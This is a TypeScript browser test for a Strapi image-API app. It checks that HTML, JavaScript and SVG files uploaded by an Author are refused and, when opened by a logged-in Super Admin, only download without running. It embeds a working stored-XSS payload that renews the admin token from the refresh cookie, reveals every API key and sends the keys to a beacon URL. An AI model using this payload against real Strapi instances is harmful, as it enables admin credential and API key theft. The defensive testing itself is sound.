/**
 * Issue 34: an Author's page in the Media Library, opened by a logged-in Super Admin, must not read
 * the API keys. The page and the script it loads would be served from `/uploads/` on the admin's own
 * origin, where the admin's CSP (`script-src 'self'`) lets a same-origin script run: it would renew
 * the admin's token from the refresh cookie, list the key entries, reveal each key and send them out.
 *
 * 1. The Author (Strapi's Author role, a real admin user) uploads the page, the script and an SVG
 *    through the Media Library's route: the app's upload settings (config/plugins.ts) refuse them,
 *    and nothing is stored.
 * 2. The same files are then put where an app without those settings would have stored them:
 *    Strapi's local provider writes `<hash><ext>` into `public/uploads` and serves it from there
 *    whatever its row says, so the files alone are what is served (no Media Library row is written:
 *    serving never reads one).
 * 3. The Super Admin, logged in in Chromium, opens the page's and the SVG's URLs: each is a download
 *    that ran nothing, and the beacon the script would call never hears from it.
 */
import fs from 'fs';
import http from 'http';
import path from 'path';
import type { AddressInfo } from 'net';
import request from 'supertest';
import type { Browser, Download, Page } from 'playwright-core';
import type { ChildApp } from '../helpers/child-app';
import { startBrowserApp, type BrowserApp } from './helpers/browser-app';

const ADMIN = { firstname: 'Ada', lastname: 'Admin', email: 'ada@img.test', password: 'Browser-pass-1234' };
const AUTHOR = { firstname: 'Arthur', lastname: 'Author', email: 'arthur@img.test', password: 'Author-pass-1234' };
/** The stored names an app without the upload settings would give the Author's files. */
const STORED = { page: 'report_0123456789.html', script: 'steal_0123456789.js', svg: 'drawing_0123456789.svg' };

let started: BrowserApp;
let app: ChildApp;
let browser: Browser;
/** Where the script sends what it read: a server on loopback that records every request. */
let beacon: http.Server;
const heard: string[] = [];
let onHeard: (() => void) | null = null;

beforeAll(async () => {
  beacon = http.createServer((req, res) => {
    heard.push(decodeURIComponent(req.url ?? ''));
    onHeard?.();
    res.end('thanks');
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
  started = await startBrowserApp();
  ({ app, browser } = started);
}, 120_000);

afterAll(async () => {
  await started?.stop();
  await new Promise((resolve) => beacon?.close(resolve));
});

/** The attack: the admin's token from the refresh cookie, the key entries, each key revealed, all sent out. */
const script = (beaconUrl: string) => `(async () => {
  const token = (await (await fetch('/admin/access-token', { method: 'POST' })).json()).data.token;
  const auth = { headers: { Authorization: 'Bearer ' + token } };
  const entries = (await (await fetch('/content-manager/collection-types/plugin::image-api.api-key', auth)).json()).results;
  const keys = [];
  for (const entry of entries) keys.push((await (await fetch('/image-api/api-keys/' + entry.documentId + '/key', auth)).json()).data.key);
  location.href = ${JSON.stringify(beaconUrl)} + '?keys=' + encodeURIComponent(keys.join(','));
})().catch((error) => { location.href = ${JSON.stringify(beaconUrl)} + '?failed=' + encodeURIComponent(String(error)); });
`;
const page = (beaconUrl: string) =>
  `<!DOCTYPE html><title>Quarterly report</title><p>Loading…</p><script>${script(beaconUrl)}</script><script src="/uploads/${STORED.script}"></script>`;
const svg = () =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" fill="teal"/><script href="/uploads/${STORED.script}"/></svg>`;

/** Opens `url` in `tab`: 'download' when the browser saved it, 'beacon' when a script ran and called out. */
async function open(tab: Page, url: string): Promise<{ outcome: 'download' | 'beacon'; download: Download | null }> {
  let download: Download | null = null;
  const saved = tab.waitForEvent('download', { timeout: 20_000 }).then((event) => {
    download = event;
    return 'download' as const;
  });
  const called = new Promise<'beacon'>((resolve) => (onHeard = () => resolve('beacon')));
  // A download ends the navigation with an error ("Download is starting"): the outcome tells which.
  const navigation = tab.goto(url).catch(() => undefined);
  const outcome = await Promise.race([saved, called]);
  await navigation;
  onHeard = null;
  return { outcome, download };
}

test("an Author's page and SVG, opened by a logged-in Super Admin, are downloads that read no key", async () => {
  const api = request(app.url);
  const beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}/beacon`;

  // The Super Admin, and a key worth stealing.
  const registered = await api.post('/admin/register-admin').send(ADMIN);
  expect(registered.status).toBe(200);
  const admin = { Authorization: `Bearer ${registered.body.data.token}` };
  const entry = await api.post('/content-manager/collection-types/plugin::image-api.api-key').set(admin).send({ name: 'Production uploader', description: 'what the page is after' });
  expect(entry.status).toBe(201);
  const secret = (await api.get(`/image-api/api-keys/${entry.body.data.documentId}/key`).set(admin)).body.data.key;
  expect(secret).toMatch(/^img_/);

  // The Author: Strapi's Author role, invited by the Super Admin, with a password of their own.
  const roles = await api.get('/admin/roles').set(admin);
  const authorRole = roles.body.data.find((role: { code: string }) => role.code === 'strapi-author');
  const invited = await api.post('/admin/users').set(admin).send({ firstname: AUTHOR.firstname, lastname: AUTHOR.lastname, email: AUTHOR.email, roles: [authorRole.id] });
  expect(invited.status).toBe(201);
  expect((await api.put(`/admin/users/${invited.body.data.id}`).set(admin).send({ password: AUTHOR.password, isActive: true })).status).toBe(200);
  const login = await api.post('/admin/login').send({ email: AUTHOR.email, password: AUTHOR.password });
  expect(login.status).toBe(200);
  const author = { Authorization: `Bearer ${login.body.data.token}` };

  // 1. The Author's uploads through the Media Library: refused by the app's upload settings, nothing stored.
  const uploads = path.join(started.publicDir, 'uploads');
  const files: Array<[string, string, string]> = [
    ['report.html', 'text/html', page(beaconUrl)],
    ['steal.js', 'application/javascript', script(beaconUrl)],
    ['drawing.svg', 'image/svg+xml', svg()],
  ];
  for (const [name, type, text] of files) {
    const res = await api.post('/upload').set(author).attach('files', Buffer.from(text), { filename: name, contentType: type });
    expect([name, res.status, res.body.error?.message]).toEqual([name, 400, `File type '${type}' is not allowed`]);
  }
  expect(fs.readdirSync(uploads)).toEqual([]);
  const library = await api.get('/upload/files').set(admin);
  expect([library.status, library.body.results]).toEqual([200, []]);

  // 2. Where an app without those settings would have stored them.
  fs.writeFileSync(path.join(uploads, STORED.page), page(beaconUrl));
  fs.writeFileSync(path.join(uploads, STORED.script), script(beaconUrl));
  fs.writeFileSync(path.join(uploads, STORED.svg), svg());

  // 3. The Super Admin logs into the panel in Chromium, then opens the links.
  const context = await browser.newContext();
  const tab = await context.newPage();
  tab.setDefaultTimeout(20_000);
  await tab.goto(`${app.url}/admin/auth/login`);
  await tab.locator('input[name="email"]').fill(ADMIN.email);
  await tab.locator('input[name="password"]').fill(ADMIN.password);
  await tab.getByRole('button', { name: 'Login' }).click();
  await tab.waitForURL((url) => !url.pathname.includes('/auth/'), { timeout: 30_000 });
  // The session the page is after: the refresh cookie renews the admin's token.
  expect((await context.cookies(`${app.url}/admin/access-token`)).map((cookie) => cookie.name)).toContain('strapi_admin_refresh');

  for (const [stored, text] of [[STORED.page, page(beaconUrl)], [STORED.svg, svg()]]) {
    const { outcome, download } = await open(tab, `${app.url}/uploads/${stored}`);
    expect([stored, outcome, heard]).toEqual([stored, 'download', []]);
    // Saved as it is, never rendered.
    expect(fs.readFileSync((await download!.path())!, 'utf8')).toBe(text);
  }
  expect(heard.join('\n')).not.toContain(secret);
  await context.close();
});
